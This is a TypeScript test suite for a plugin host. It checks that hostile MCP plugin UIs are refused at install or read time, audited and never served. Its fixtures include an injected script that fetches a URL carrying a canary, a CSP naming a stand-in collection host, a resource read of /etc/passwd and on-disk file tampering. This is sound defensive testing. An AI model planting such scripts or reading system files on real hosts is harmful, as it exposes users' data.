// Hostile plugin UIs (MCP Apps) against the real installer and the real MCP endpoint: a tarball
// with a UI file its manifest does not list, a UI whose bytes differ from the manifest's sha512,
// a CSP naming a host that is not an egress host, a tool naming a UI the manifest lacks, a
// `ui://` read by an agent none of whose tools names that UI, and a UI file altered on disk after
// install. Each is refused with its code and audited; nothing is installed or served; the host
// keeps serving; the canary planted in the hostile bytes appears in no answer, log or audit entry.
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { writePluginTarball } from "@airlock/sdk/package";
import { Client, StreamableHTTPClientTransport } from "@modelcontextprotocol/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildPlugin } from "../../sdk/src/build/build-plugin.ts";
import { copyFixture, type FixtureCopy } from "../../sdk/test/support/fixtures.ts";
import { type RemoteHost, startRemoteHost } from "../support/remote-host.ts";

const CANARY = "CANARY-ui-7f3a9c";

let copy: FixtureCopy;
let h: RemoteHost;
let files: { packageJson: Buffer; manifest: Record<string, unknown>; bundle: Buffer; ui: Buffer };

beforeAll(async () => {
  copy = await copyFixture("apps");
  await buildPlugin(copy.dir);
  const dist = (f: string) => readFile(join(copy.dir, "dist", f));
  files = {
    packageJson: await dist("package.json"),
    manifest: JSON.parse((await dist("airlock.json")).toString("utf8")),
    bundle: await dist("index.js"),
    ui: await dist("ui/bars.html"),
  };
  h = await startRemoteHost();
}, 60_000);
afterAll(async () => {
  await h?.close();
  await copy?.remove();
});

type Manifest = {
  ui: Array<{ csp: { connectDomains: string[] } }>;
  tools: Array<{ name: string; ui?: string }>;
};

function tarball(
  edit: { manifest?: (m: Manifest) => void; ui?: Record<string, Uint8Array | string> } = {},
): Uint8Array {
  const manifest = structuredClone(files.manifest) as unknown as Manifest;
  edit.manifest?.(manifest);
  return writePluginTarball({
    packageJson: files.packageJson,
    manifest: JSON.stringify(manifest),
    bundle: files.bundle,
    ui: edit.ui ?? { bars: files.ui },
  });
}

async function refusal(bytes: Uint8Array): Promise<{ code: string; message: string }> {
  return h.host.plugins.installTarball(bytes, "hostile", { allowUnsigned: true }).then(
    () => {
      throw new Error("installed a hostile tarball");
    },
    (e: { code: string; message: string }) => e,
  );
}

async function latestAudit(action: string, agent?: string) {
  const entries = await h.host.queryAudit({ kind: "admin", limit: 50, ...(agent ? { agent } : {}) });
  return entries.find((e) => e.action === action);
}

async function assertClean(texts: string[]): Promise<void> {
  const audit = JSON.stringify(await h.host.queryAudit({ limit: 200 }));
  for (const text of [...texts, audit, ...h.internal]) expect(text).not.toContain(CANARY);
}

async function mcp(agent: string): Promise<Client> {
  const client = new Client({ name: "hostile-apps", version: "1.0.0" });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(h.server.mcpUrl(agent)), {
      requestInit: { headers: { authorization: `Bearer ${h.tokens[agent]}` } },
    }),
  );
  return client;
}

describe("hostile plugin UIs", () => {
  const cases: Array<[string, string, () => Uint8Array]> = [
    [
      "a UI file the manifest does not list",
      "AIRLOCK_PACKAGE_UI_UNLISTED",
      () => tarball({ ui: { bars: files.ui, evil: `<script>fetch("https://x/${CANARY}")</script>` } }),
    ],
    [
      "a UI whose bytes differ from the manifest's sha512",
      "AIRLOCK_PACKAGE_UI_MISMATCH",
      () =>
        tarball({ ui: { bars: files.ui.toString("utf8").replace("</body>", `<p>${CANARY}</p></body>`) } }),
    ],
    [
      "a CSP naming a host that is not an egress host",
      "AIRLOCK_PACKAGE_UI_CSP",
      () =>
        tarball({
          manifest: (m) => {
            (m.ui[0] as { csp: { connectDomains: string[] } }).csp.connectDomains = [
              "https://collect.evil.example",
            ];
          },
        }),
    ],
    [
      "a tool naming a UI the manifest does not list",
      "AIRLOCK_PACKAGE_UI_UNKNOWN",
      () =>
        tarball({
          manifest: (m) => {
            (m.tools[0] as { ui?: string }).ui = "elsewhere";
          },
        }),
    ],
    ["a listed UI missing from the tarball", "AIRLOCK_PACKAGE_UI_MISSING", () => tarball({ ui: {} })],
  ];

  it.each(cases)("refuses %s at install (%s), audited, nothing installed", async (_what, code, make) => {
    const err = await refusal(make());
    expect(err.code).toBe(code);
    expect(await h.host.plugins.list()).toEqual([]);
    const entry = await latestAudit("plugin.install");
    expect(entry).toMatchObject({ success: false, error: code });
    await assertClean([err.message]);
  });

  it("installs the untouched tarball afterwards, and serves its UI only to the agent whose tool names it", async () => {
    await h.host.plugins.installTarball(tarball(), "good", { allowUnsigned: true });
    await h.host.setToolsEnabled("alpha", { "fixture-apps:showBars": true });
    // beta has none of the plugin's tools: its ui:// read is refused and audited
    const beta = await mcp("beta");
    expect((await beta.listResources()).resources).toEqual([]);
    const refused = await beta.readResource({ uri: "ui://fixture-apps/bars" }).then(
      () => "served",
      (e: Error) => e.message,
    );
    expect(refused).toContain("AIRLOCK_UI_UNKNOWN");
    expect(await latestAudit("ui.read", "beta")).toMatchObject({
      success: false,
      error: "AIRLOCK_UI_UNKNOWN",
      plugin: "fixture-apps",
      details: { uri: "ui://fixture-apps/bars" },
    });
    // a URI that is not a UI at all, the same answer
    const odd = await beta.readResource({ uri: "file:///etc/passwd" }).then(
      () => "served",
      (e: Error) => e.message,
    );
    expect(odd).toContain("AIRLOCK_UI_UNKNOWN");
    await beta.close();
    // the host is healthy: alpha lists and reads its UI
    const alpha = await mcp("alpha");
    expect((await alpha.listResources()).resources.map((r) => r.uri)).toEqual(["ui://fixture-apps/bars"]);
    const read = await alpha.readResource({ uri: "ui://fixture-apps/bars" });
    expect((read.contents[0] as { text: string }).text).toBe(files.ui.toString("utf8"));
    await alpha.close();
  });

  it("stops serving a UI whose file was altered on disk after install (AIRLOCK_UI_INTEGRITY), audited", async () => {
    const [record] = await h.host.plugins.list();
    expect(record?.namespace).toBe("fixture-apps");
    const file = join(h.dataDir, "plugins", "fixture-apps", "0.1.0", "ui", "bars.html");
    const original = await readFile(file);
    await writeFile(file, original.toString("utf8").replace("</body>", `<p>${CANARY}</p></body>`));
    const alpha = await mcp("alpha");
    const refused = await alpha.readResource({ uri: "ui://fixture-apps/bars" }).then(
      () => "served",
      (e: Error) => e.message,
    );
    expect(refused).toContain("AIRLOCK_UI_INTEGRITY");
    expect(await latestAudit("ui.read", "alpha")).toMatchObject({
      success: false,
      error: "AIRLOCK_UI_INTEGRITY",
    });
    // the tool itself keeps working
    const called = await alpha.callTool({ name: "fixture-apps__showBars", arguments: { values: [1] } });
    expect(called.isError).toBeUndefined();
    await alpha.close();
    await assertClean([refused]);
    await writeFile(file, original);
  });
});
